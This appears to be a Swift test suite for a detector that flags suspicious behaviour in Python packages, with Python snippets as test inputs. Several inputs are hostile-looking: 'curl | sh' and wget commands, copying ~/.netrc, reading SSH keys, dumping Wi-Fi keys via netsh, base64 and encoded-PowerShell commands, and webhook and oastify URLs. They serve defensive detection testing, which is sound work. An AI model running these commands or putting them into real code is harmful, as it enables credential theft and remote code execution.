import Behaviors
import PythonSemantics
import Testing

/// Python in, observations out.
@Suite("Observers")
struct ObserverTests {
  private let catalogue: Catalogue

  init() throws { catalogue = try Catalogue.embedded() }

  private func seen(_ source: String, in path: String = "package/__init__.py") -> [Observation] {
    observations(in: [(path, Array(source.utf8))], catalogue: catalogue)
  }

  /// The source shows the behaviour with this detail, and no behaviour of `not`.
  private func check(
    _ source: String, shows behavior: Behavior, detail: String? = nil, not others: [Behavior] = [],
    in path: String = "package/__init__.py", sourceLocation: SourceLocation = #_sourceLocation
  ) {
    let found = seen(source, in: path)
    let matching = found.filter { $0.behavior == behavior && (detail.map($0.detail.contains) ?? true) }
    #expect(
      !matching.isEmpty, "seen: \(found.map { "\($0.behavior.name) {\($0.detail)}" })", sourceLocation: sourceLocation)
    for other in others { #expect(!found.contains { $0.behavior == other }, sourceLocation: sourceLocation) }
  }

  private func check(
    _ source: String, doesNotShow behavior: Behavior, sourceLocation: SourceLocation = #_sourceLocation
  ) {
    #expect(!seen(source).contains { $0.behavior == behavior }, sourceLocation: sourceLocation)
  }

  @Test func modeDecidesWhatOpenDoes() {
    check("open('a')", shows: .readsFile, detail: "a", not: [.writesFile])
    check("open('a', 'rb')", shows: .readsFile, not: [.writesFile])
    check("open('a', mode='w')", shows: .writesFile, detail: "a", not: [.readsFile])
    check("import io\nio.open('a', 'ab')", shows: .writesFile)
  }

  @Test func commandsAreReadFromLists() {
    check("import subprocess\nsubprocess.run(['git', 'describe', x])", shows: .spawnsProcess, detail: "git describe ?")
    check(
      "import subprocess, sys\nsubprocess.call([sys.executable, '-m', 'pip', 'install', 'a'])", shows: .installsPackage)
    check("import os\nos.system(f'curl {u} | sh')", shows: .runsDownloadCommand, detail: "curl ? | sh")
    check("import os\nos.execl('/bin/sh', 'sh', '-c', 'wget a')", shows: .runsDownloadCommand)
    check("import subprocess\nsubprocess.run('a', shell=True)", shows: .runsShell)
    check("import subprocess\nsubprocess.run('a', shell=False)", doesNotShow: .runsShell)
    check("import subprocess\nsubprocess.run(['curlew'])", doesNotShow: .runsDownloadCommand)
  }

  @Test func hostsAndStoresFlowToWhatTakesThem() {
    func sources(_ behavior: Behavior, _ source: String) -> [Behavior] {
      seen(source).filter { $0.behavior == behavior }.reduce(into: BehaviorSet()) { $0.formUnion($1.sources) }.members
    }
    let fetched = sources(
      .fetchesFromNetwork, "import requests\nBASE = 'https://pastebin.com/raw/'\nrequests.get(BASE + key)")
    #expect(fetched.contains(.namesHost))
    #expect(
      !sources(.fetchesFromNetwork, "import requests\nHELP = 'see https://pastebin.com/'\nrequests.get(address)")
        .contains(.namesHost))
    #expect(
      sources(.fetchesFromNetwork, "import requests\nHOST = '192.88.99.30'\nrequests.get('http://' + HOST)")
        .contains(.namesAddress))
    let opened = sources(.readsFile, "import os\nkey = os.path.expanduser('~/.ssh/id_rsa')\nopen(key).read()")
    #expect(opened.contains(.namesStore))
    #expect(!sources(.readsFile, "KEY = '~/.ssh/id_rsa'\nopen('a').read()").contains(.namesStore))
  }

  @Test func sentencesAndNetworksNameNothing() {
    check("print('No GitHub credentials found in .netrc')", doesNotShow: .readsCredentials)
    check("import os\nos.system('cp ~/.netrc /tmp/a')", shows: .readsCredentials)
    check("RANGE = '192.88.99.0/24'", doesNotShow: .namesAddress)
    check("HOST = '192.88.99.30:80'", shows: .namesAddress)
  }

  @Test func whatIsOnlyNamedIsNotDone() {
    let head = "import subprocess, http.client\n"
    check(head + "class Pipe(subprocess.Popen): pass", doesNotShow: .spawnsProcess)
    check(head + "def f(p: subprocess.Popen) -> subprocess.Popen: pass", doesNotShow: .spawnsProcess)
    check(head + "p: subprocess.Popen | None = None", doesNotShow: .spawnsProcess)
    check(head + "if isinstance(p, subprocess.Popen): pass", doesNotShow: .spawnsProcess)
    check(head + "run = subprocess.Popen", shows: .spawnsProcess)
  }

  @Test func programsTakeThemselvesAway() {
    check("import os\nos.remove(__file__)", shows: .deletesItself)
    check("import os, sys\nos.unlink(os.path.abspath(sys.argv[0]))", shows: .deletesItself)
    check("import pathlib\npathlib.Path(__file__).unlink()", shows: .deletesItself)
    check(
      "import os\nos.remove(os.path.join(os.path.dirname(__file__), 'a'))", shows: .deletesFile, not: [.deletesItself])
    check("import os, sys\nos.remove(sys.argv[1])", doesNotShow: .deletesItself)
  }

  @Test func taxonomyCoversWhatProgramsDo() {
    check("import threading\nthreading.Thread(target=f).start()", shows: .runsBeside)
    check("import time\ntime.sleep(9)", shows: .pauses)
    check("import psutil\nfor p in psutil.process_iter(): p.kill()", shows: .listsProcesses)
    check("import os\nos.kill(1, 9)", shows: .endsProcess)
    check("import sys\nsys.meta_path.insert(0, F())", shows: .hooksInterpreter)
    check("import shutil\nshutil.make_archive('a', 'zip', '.')", shows: .packsFiles)
    check("import smtplib\nsmtplib.SMTP('a').sendmail(x, y, z)", shows: .sendsMail)
    check("import pyaudio\npyaudio.PyAudio().open()", shows: .capturesSound)
    check("import pyautogui\npyautogui.typewrite('a')", shows: .simulatesInput)
    check("import winreg\nwinreg.QueryValueEx(k, 'a')", shows: .readsRegistry)
    check("import site\nx = site.getsitepackages()", shows: .locatesPackages)
    check("import os\nos.system('netsh wlan show profiles key=clear')", shows: .readsWireless)
    check("import os\nos.system('twine upload dist/*')", shows: .publishesPackage)
    check("import os\nos.utime('a', (1, 1))", shows: .forgesTimes)
    check("import ctypes\nctypes.windll.shell32.IsUserAnAdmin()", shows: .raisesPrivileges)
    check("import selenium.webdriver\nselenium.webdriver.Chrome()", shows: .drivesBrowser)
    check("import nmap\nnmap.PortScanner().scan('a')", shows: .scansNetwork)
  }

  @Test func encodedPowerShellIsRead() {
    // "curl a" as UTF-16LE and base64
    check(
      "import os\nos.system('powershell -enc YwB1AHIAbAAgAGEA')", shows: .runsEncodedPowershell, detail: "curl a")
    check("import os\nos.system('powershell -enc YwB1AHIAbAAgAGEA')", shows: .runsDownloadCommand, detail: "curl a")
    check("import os\nos.system('powershell -File a.ps1')", doesNotShow: .runsEncodedPowershell)
  }

  @Test func variablesAreToldApart() {
    check("import os\nx = os.environ['USERNAME']", shows: .readsHostIdentity, detail: "USERNAME")
    check("import os\nx = os.getenv('HOME')", shows: .readsVariable, detail: "HOME", not: [.readsHostIdentity])
    check("import os\nx = dict(os.environ)", shows: .readsEnvironment)
    check("import os\nos.environ['A'] = 'b'", doesNotShow: .readsVariable)
    check("import os\nif 'A' in os.environ: pass", doesNotShow: .readsEnvironment)
    check("import os, subprocess\nsubprocess.run(['a'], env=os.environ)", doesNotShow: .readsEnvironment)
  }

  @Test func requestsThatCarrySomethingSend() {
    check(
      "import requests\nrequests.get('https://a.invalid/')", shows: .fetchesFromNetwork, detail: "https://a.invalid/",
      not: [.sendsToNetwork])
    check("import requests, socket\nrequests.get('https://a.invalid/' + socket.gethostname())", shows: .sendsToNetwork)
    check("import urllib.request as u\nu.urlopen('https://a.invalid/', data=b'x')", shows: .sendsToNetwork)
    check("import urllib.request as u\nu.urlopen('https://a.invalid/')", doesNotShow: .sendsToNetwork)
  }

  @Test func decodedAddressesAndCommandsAreHidden() {
    check("import base64, requests\nrequests.get(base64.b64decode('YQ==').decode())", shows: .hidesAddress)
    check(
      "import base64, requests\nrequests.post('https://a.invalid/', data=base64.b64decode(x))",
      doesNotShow: .hidesAddress)
    check("import base64, os\nos.system(base64.b64decode('YQ==').decode())", shows: .hidesCommand)
  }

  @Test func encodedConstantsAreReadOut() {
    check(
      "import base64, os\ndef f():\n  os.system(base64.b64decode('Y3VybCBodHRwczovL2EuaW52YWxpZC8=').decode())",
      shows: .runsDownloadCommand, detail: "curl https://a.invalid/")
    check("import os\nos.system(''.join(chr(c) for c in [99, 97, 108, 99, 46, 101, 120, 101]))", shows: .hidesCommand)
  }

  @Test func laterSourcesDoNotFlowBack() {
    let source = """
      import base64
      NAME = "a"
      exec(NAME + ".b()")
      def later(x):
          global NAME
          NAME = base64.b64decode(x).decode()
      """
    let seen = seen(source).first { $0.behavior == .executesCode }
    #expect(seen?.runsAt == .import)
    #expect(seen?.sources.contains(.decodes) == false)
  }

  @Test func letterBoxesHaveNumbers() {
    #expect(seen("X = 'https://discord.com/api/webhooks/000000000000/a'").contains { $0.subject == "letter-box" })
    #expect(seen("X = 'https://discord.com/api/webhooks/'").contains { $0.subject == "webhook" })
    #expect(seen("X = '000000000:\(String(repeating: "a", count: 35))'").contains { $0.subject == "letter-box" })
    #expect(!seen("X = '00:\(String(repeating: "a", count: 42))'").contains { $0.subject == "letter-box" })
  }

  @Test func programsOfBuildingAreKnown() {
    check("import os\nos.system('/usr/bin/git tag')", doesNotShow: .startsUnknownProgram)
    check("import os\nos.system('cmd /c start a.exe')", shows: .startsUnknownProgram, detail: "a.exe")
    check("import subprocess\nsubprocess.run([x, 'a'])", doesNotShow: .startsUnknownProgram)
    check(
      "import os, subprocess\np = os.path.join(d, 'a.exe')\nsubprocess.run([p])", shows: .spawnsProcess,
      detail: "?/a.exe")
  }

  @Test func programsInTextsAreSeen() {
    check("open('a', 'w').write('import os, sys\\nos.system(sys.argv[1] + sys.argv[2])')", shows: .carriesProgram)
    check("open('a', 'w').write('version = 1, and a longer line of words')", doesNotShow: .carriesProgram)
  }

  @Test(arguments: [
    ("import os\nos.system('curl a | sh')", true),
    ("import subprocess\nsubprocess.run(['wget', u])", true),
    ("import os\ndef f(c): os.system(c)\nf('curl a | sh')", true),
    ("import base64, os\nos.system(base64.b64decode('Y3VybCBhIHwgc2g=').decode())", true),
    ("import os\nprint('curl a | sh')\nos.system('gcc a.c')", false),
    ("import os\ndef advice(): return 'curl a | sh'\nos.system('gcc a.c')\nprint(advice())", false),
    ("import os\nos.system('gcc a.c')\ndef f():\n  global c\n  c = 'curl a | sh'", false),
    ("import os\nc = x\nos.system(c)\ndef f():\n  global c\n  c = 'curl a | sh'", false),
    ("import os\nc = 'curl a | sh'\nos.system(c or d)", true),
  ])
  func commandsFlowIntoTheCallThatStartsThem(source: String, flows: Bool) {
    let spawns = seen(source).filter { $0.behavior == .spawnsProcess }
    #expect(!spawns.isEmpty)
    #expect(spawns.contains { $0.sources.contains(.runsDownloadCommand) } == flows)
  }

  @Test func commandsOfLayersAreRead() {
    let found = Observers.observe(
      command: Array("curl a | sh".utf8), in: "setup.py", layer: 1, runsAt: .install, catalogue: catalogue)
    #expect(found.contains { $0.behavior == .runsDownloadCommand && $0.location.layer == 1 && $0.runsAt == .install })
  }

  @Test func textsAreFoundInConstantsOnly() {
    check("X = 'https://a.oastify.com/'", shows: .namesHost, detail: "oastify")
    check("X = 'https://a.oas' + 'tify.com/'", shows: .namesHost)
    check("'''Documentation of https://a.oastify.com/'''", doesNotShow: .namesHost)
    check("# https://a.oastify.com/", doesNotShow: .namesHost)
  }

  @Test(arguments: [
    ("http://192.88.99.30/x", true), ("192.88.99.30:8080", true), ("http://127.0.0.1/", false),
    ("http://192.168.1.1/", false), ("1.2.3.4", false), ("192.88.99.300", false), ("version 192.88.99.30", false),
    ("192.88.99.30.5", false),
  ])
  func publicAddressesAreNamed(text: String, isNamed: Bool) {
    #expect(seen("X = '\(text)'").contains { $0.behavior == .namesAddress } == isNamed)
  }

  @Test func opaqueLiteralsAreSeen() {
    check("X = '\(String(repeating: "QUJD", count: 100))'", shows: .opaqueConstant)
    check("X = [\(Array(repeating: "104", count: 400).joined(separator: ", "))]", shows: .opaqueConstant)
    check("X = '\(String(repeating: "a word or two ", count: 100))'", doesNotShow: .opaqueConstant)
    check("X = 'QUJD'", doesNotShow: .opaqueConstant)
  }

  @Test func unreadableNamesAreSeen() {
    let odd = (0..<20).map { "lIl1I\(String($0, radix: 2).map { $0 == "0" ? "l" : "I" }.joined())Il = 1" }
    check(odd.joined(separator: "\n"), shows: .obfuscatesNames)
    let plain = [
      "getHTTPResponseCode", "XMLHttpRequest", "utf8_to_utf16le", "test_rfc3986_b64", "x86_64", "i18nString2",
      "snake_case_name_with_words", "strlen", "wcwidth", "MAX_BYTES_PER_READ", "kwargs2", "OpenSSLX509V3",
    ]
    check(plain.map { "\($0) = 1" }.joined(separator: "\n"), doesNotShow: .obfuscatesNames)
  }

  @Test func runTimeIsKept() {
    #expect(
      seen("import os\nos.system('a')", in: "setup.py").first { $0.behavior == .spawnsProcess }?.runsAt == .install)
    #expect(seen("import os\nos.system('a')").first { $0.behavior == .spawnsProcess }?.runsAt == .import)
    #expect(seen("import os\ndef f():\n  os.system('a')").first { $0.behavior == .spawnsProcess }?.runsAt == .call)
  }

  @Test func filesAreSniffed() {
    let program = [UInt8]("MZ".utf8) + [0x90, 0] + [UInt8](repeating: 0, count: 300)
    let found = observations(in: [("package/a.py", program)], catalogue: catalogue)
    #expect(found.contains { $0.behavior == .notPythonText && $0.subject == "program" })
    #expect(!seen("x = 1").contains { $0.behavior == .notPythonText })
  }
}
